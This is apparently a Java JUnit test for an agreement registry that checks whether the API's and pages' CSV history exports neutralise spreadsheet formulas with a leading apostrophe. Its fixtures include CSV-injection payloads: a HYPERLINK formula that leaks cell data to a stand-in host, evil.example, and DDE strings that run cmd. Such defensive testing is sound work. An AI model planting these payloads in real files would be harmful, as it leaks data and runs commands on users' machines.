package fi.agreementregistry.api.rest.history;

import fi.agreementregistry.api.RegistryHttpTest;
import fi.agreementregistry.api.web.PageSession;
import org.apache.commons.csv.CSVFormat;
import org.apache.commons.csv.CSVParser;
import org.apache.commons.csv.CSVRecord;
import org.junit.jupiter.api.Test;
import org.springframework.http.HttpEntity;
import org.springframework.http.HttpHeaders;
import org.springframework.http.HttpMethod;
import org.springframework.http.MediaType;
import org.springframework.http.ResponseEntity;

import java.io.StringReader;
import java.nio.charset.StandardCharsets;
import java.util.HashMap;
import java.util.List;
import java.util.Map;

import static org.assertj.core.api.Assertions.assertThat;

/**
 * Issue 13, section 7: text that a spreadsheet would run as a formula leaves every CSV the registry writes (the API's
 * history export and the pages' download of it) with a leading apostrophe, as OWASP recommends; ordinary text and
 * numbers are unchanged.
 */
class CsvInjectionHttpTest extends RegistryHttpTest {

    static final String HYPERLINK = "=HYPERLINK(\"http://evil.example/?leak=\"&A1,\"Click\")";
    static final String DDE = "+cmd|' /C calc'!A0";
    static final String AT_SUM = "@SUM(A1)";
    static final String MINUS = "-2+3+cmd|' /C calc'!A0";

    @Test
    void formulaCellsAreNeutralisedInTheApiExportAndThePagesDownload() throws Exception {
        Map<String, Object> draft = new HashMap<>(kantaHameDraft());
        draft.put("title", HYPERLINK);
        String id = body(post("/api/agreements", draft)).get("agreementId").asText();
        Map<String, Object> approval = new HashMap<>(approval("municipality:109", 1, "2026-01-10"));
        approval.put("decisionText", DDE);
        approval.put("section", AT_SUM);
        approval.put("diaryNumber", MINUS);
        assertThat(post("/api/agreements/" + id + "/approvals", approval).getStatusCode().value()).isEqualTo(201);

        HttpHeaders accept = new HttpHeaders();
        accept.setAccept(List.of(MediaType.parseMediaType("text/csv")));
        ResponseEntity<byte[]> api = http.exchange("/api/agreements/" + id + "/history", HttpMethod.GET,
                new HttpEntity<>(accept), byte[].class);
        assertThat(api.getStatusCode().value()).isEqualTo(200);
        assertNeutralised(new String(api.getBody(), StandardCharsets.UTF_8));

        PageSession pages = PageSession.signIn(http.getRootUri(), AUDITOR, PASSWORD);
        var download = pages.get("/ui/history.csv?agreement=" + id);
        assertThat(download.statusCode()).isEqualTo(200);
        assertNeutralised(download.body());
    }

    private static void assertNeutralised(String csvText) throws Exception {
        String text = csvText.startsWith("\uFEFF") ? csvText.substring(1) : csvText;
        try (CSVParser csv = CSVFormat.EXCEL.builder().setHeader().setSkipHeaderRecord(true).get()
                .parse(new StringReader(text))) {
            List<CSVRecord> rows = csv.getRecords();
            CSVRecord drafted = rows.get(0);
            CSVRecord approved = rows.get(1);
            assertThat(drafted.get("title")).isEqualTo("'" + HYPERLINK);
            assertThat(approved.get("decisionText")).isEqualTo("'" + DDE);
            assertThat(approved.get("section")).isEqualTo("'" + AT_SUM);
            assertThat(approved.get("diaryNumber")).isEqualTo("'" + MINUS);
            assertThat(approved.get("partyName")).isEqualTo("Hämeenlinna");
            assertThat(approved.get("sequence")).isEqualTo("1");
            for (CSVRecord row : rows) {
                for (String cell : row) {
                    assertThat(cell).as("no cell may start a formula").doesNotStartWith("=").doesNotStartWith("+")
                            .doesNotStartWith("-").doesNotStartWith("@").doesNotStartWith("\t").doesNotStartWith("\r");
                }
            }
        }
    }
}
